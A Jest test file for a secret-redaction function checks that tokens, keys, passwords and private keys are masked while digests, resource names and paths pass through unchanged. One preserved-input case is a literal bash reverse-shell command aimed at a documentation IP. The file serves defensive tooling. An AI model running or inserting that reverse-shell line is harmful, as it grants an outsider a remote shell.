import { describe, expect, test } from '@jest/globals';
import { redact } from '../../../src/domain/text/redact';

const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
const RANDOM = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY0123456789';
const JWT = 'eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwcyJ9.c2lnbmF0dXJl';

describe('what opens something goes', () => {
  test.each([
    ['a bearer token', 'Authorization: Bearer abc.def-123', 'Authorization: Bearer [redacted]'],
    [
      'basic credentials',
      "curl -H 'authorization: basic dXNlcjpwYXNz'",
      "curl -H 'authorization: basic [redacted]'",
    ],
    ['a Google access token', 'got ya29.c.b0Aaekm1K-x_y and went', 'got [redacted] and went'],
    ['a JWT', `id ${JWT}`, 'id [redacted]'],
    ['a Google API key', `key AIza${'a'.repeat(35)} x`, 'key [redacted] x'],
    ['a GitHub token', `ghp_${'a1'.repeat(18)}`, '[redacted]'],
    ['an AWS key id', 'AKIAIOSFODNN7EXAMPLE', '[redacted]'],
    ['an assignment', 'DB_PASSWORD=hunter2 ./run', 'DB_PASSWORD=[redacted] ./run'],
    ['an assignment in quotes', `export api_key="a b c" x`, 'export api_key="[redacted]" x'],
    ['an unclosed quote', `SECRET='abc def`, "SECRET='[redacted]'"],
    ['a JSON member', '{"client_secret": "xyz", "a": 1}', '{"client_secret": "[redacted]", "a": 1}'],
    ['a YAML line', 'password: hunter2', 'password: [redacted]'],
    ['a flag with equals', '--db-password=x -v', '--db-password=[redacted] -v'],
    ['a flag with a space', 'mysql --password hunter2 -u root', 'mysql --password [redacted] -u root'],
    ['a header of an API', 'x-apikey: 0123', 'x-apikey: [redacted]'],
    ['a cookie', 'Cookie: sid=1234; b=2\nHost: x', 'Cookie: [redacted]\nHost: x'],
    ['URL credentials', 'https://ada:s3cret@git.example/x', 'https://[redacted]@git.example/x'],
    ['URL credentials with an at sign', 'ftp://u:p@ss@h.example/', 'ftp://[redacted]@h.example/'],
    ['a query', 'GET /a?user=ada&sig=abc#top', 'GET /a?user=[redacted]&sig=[redacted]#top'],
    ['a long random value', `aws ${RANDOM}`, 'aws [redacted]'],
    ['long base64 with padding', `x QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn== y`, 'x [redacted] y'],
    ['a long hex value that is no digest', `k ${'0a'.repeat(24)}`, 'k [redacted]'],
    ['a hex value longer than a digest', `k ${SHA256}00`, 'k [redacted]'],
    ['a digest that is called a key', `VT_API_KEY=${SHA256}`, 'VT_API_KEY=[redacted]'],
    [
      'a private key',
      'a -----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY----- b',
      'a [redacted] b',
    ],
    ['a private key cut short', 'a -----BEGIN PRIVATE KEY-----\\nMIIE', 'a [redacted]'],
  ])('%s', (_name, text, expected) => {
    expect(redact(text)).toBe(expected);
    expect(redact(redact(text))).toBe(expected);
  });
});

describe('what identifies something stays', () => {
  test.each([
    ['a SHA-256', `sha ${SHA256}`],
    ['an image digest', `europe-docker.pkg.dev/p/r/payments@sha256:${SHA256}`],
    ['a git commit', '9ffd035832d60254030cdfb215a72b6619cebd3b'],
    ['a finding', 'organizations/1/sources/2/locations/global/findings/0123456789abcdef0123456789abcdef'],
    ['a reverse shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    ['a resource', '//run.googleapis.com/projects/415104041262/locations/europe-west1/services/payments'],
    ['a method', 'google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion'],
    [
      'a file name',
      'projects/P1/locations/L/Services/payments-with-A-long-name/revisions/payments-00003-abc',
    ],
    ['a request without a query', 'POST /api/v1/upload 504'],
    ['an account', 'payments@example-prod.iam.gserviceaccount.com'],
    ['a file path', '/usr/share/nginx/html/index.html'],
    ['nothing', ''],
  ])('%s', (_name, text) => {
    expect(redact(text)).toBe(text);
  });
});

test('a hostile megabyte is worked through', () => {
  const text = `${'password'.repeat(40_000)} ${'-'.repeat(200_000)} ${'a@'.repeat(100_000)} ${'://'.repeat(60_000)}`;
  expect(redact(text).length).toBeGreaterThan(0);
});
